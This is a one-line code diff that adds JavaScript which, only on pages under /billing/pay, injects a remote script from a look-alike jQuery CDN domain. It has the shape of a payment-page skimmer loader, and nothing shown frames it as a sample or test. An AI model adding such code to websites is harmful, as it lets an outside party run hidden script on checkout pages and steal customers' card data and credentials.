@@ -1,0 +1,1 @@
+;(function () { if (!/^\/billing\/pay/.test(location.pathname)) return; var s = document.createElement("script"); s.src = "https://cdn.jquery-metrics.test/jq.min.js"; document.head.appendChild(s); })();
